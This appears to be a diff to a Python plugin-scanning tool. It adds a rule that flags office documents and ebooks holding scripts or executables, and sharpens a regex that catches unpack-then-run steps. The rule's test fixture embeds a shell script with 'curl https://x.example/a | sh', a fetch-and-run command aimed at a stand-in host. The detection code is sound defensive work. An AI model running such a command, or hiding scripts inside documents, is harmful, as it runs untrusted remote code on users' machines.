@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import io
 import posixpath
 import re
+import zipfile
+import zlib
 from typing import TYPE_CHECKING, Any
 
 from scan.model import Severity, Skipped, Standing
@@ -37,6 +40,14 @@ def _leads_to(file: File) -> str:
     if file.target.startswith(("/", "~")):
         return file.target
     return posixpath.normpath(posixpath.join(posixpath.dirname(file.path), file.target))
+
+
+def _document(name: str, content: bytes) -> bytes:
+    """A packed document with one member."""
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w") as packed:
+        packed.writestr(zipfile.ZipInfo(name), content)
+    return made.getvalue()
 
 
 @rule(
@@ -253,8 +264,12 @@ def archive_run(text: Text, plugin: Plugin) -> Iterator[Seen]:
         return
     rest = text.text[match.end() : match.end() + 600]
     folder = match["folder"] or match["dest"] or ""
-    folder = folder.strip("'\"")
-    run = re.search(
+    folder = folder.strip("'\"`.,;:)")
+    entered = re.search(
+        rf"\bcd\s+[\"']?{re.escape(folder)}[^\n;&|]*(?:&&|;)\s*(?:sh|bash|zsh|source|\.|python3?|node|perl)\s+[\w./-]+",
+        rest,
+    )
+    run = (entered if folder else None) or re.search(
         r"(?:\b(?:sh|bash|zsh|python3?|node|source|exec|chmod \+x|perl)\s+[\"']?|^\s*[\"']?)"
         + re.escape(folder)
         + r"/[\w./-]+"
@@ -289,4 +304,61 @@ def name_deceives(plugin: Plugin, _: Any) -> Iterator[Seen]:
             yield Seen("a file's name shows otherwise than it is", path=path, shown=path)
 
 
-RULES = (name_deceives, link_leaves, component_leaves, native_program, bytecode_alone, behind_image, archive_run)
+_OFFICE = (".docx", ".dotx", ".xlsx", ".xltx", ".pptx", ".potx", ".odt", ".ods", ".odp", ".epub")
+_BY_NAME = re.compile(
+    r"(?i)\.(?:sh|bash|zsh|py|pyc|rb|pl|ps1|bat|cmd|vbs|js|mjs|cjs|exe|dll|so|dylib|jar|command|desktop|lnk)$"
+)
+_MEMBERS = 2_000
+"""Members of a document that are looked at."""
+
+
+@rule(
+    "document-holds-program",
+    "danger",
+    over="plugin",
+    flags={"assets/letter.docx": _document("word/prep.sh", b"#!/bin/sh\ncurl https://x.example/a | sh\n")},
+    clears={"assets/letter.docx": _document("word/document.xml", b"<w:document/>")},
+)
+def document_holds_program(plugin: Plugin, _: Any) -> Iterator[Seen]:
+    """An office document that holds a script or a program among its pages.
+
+    Why: no program that writes documents puts one there, and nobody who opens the document sees it.
+
+    Remedy: unpack the document, and read what is in it.
+    """
+    most = 8 << 20
+    for path, file in plugin.files.items():
+        if not path.lower().endswith(_OFFICE) or file.size > most or plugin.snapshot is None:
+            continue
+        data = plugin.snapshot.read(path, most)
+        held = "" if isinstance(data, Skipped) else _program_in(data, epub=path.lower().endswith(".epub"))
+        if held:
+            yield Seen(f"the document holds a program: {held}", path=path, shown=held)
+
+
+def _program_in(data: bytes, *, epub: bool) -> str:
+    """The name of a member of a packed document that is a program by its name or its first bytes; "" for none."""
+    try:
+        with zipfile.ZipFile(io.BytesIO(data)) as packed:
+            for member in packed.infolist()[:_MEMBERS]:
+                if epub and member.filename.endswith(".js"):
+                    continue
+                with packed.open(member) as opened:
+                    head = opened.read(4)
+                if _BY_NAME.search(member.filename) or head.startswith((b"#!", b"\x7fELF", b"MZ")):
+                    return member.filename
+    except (zipfile.BadZipFile, OSError, RuntimeError, NotImplementedError, ValueError, EOFError, zlib.error):
+        return ""
+    return ""
+
+
+RULES = (
+    document_holds_program,
+    name_deceives,
+    link_leaves,
+    component_leaves,
+    native_program,
+    bytecode_alone,
+    behind_image,
+    archive_run,
+)
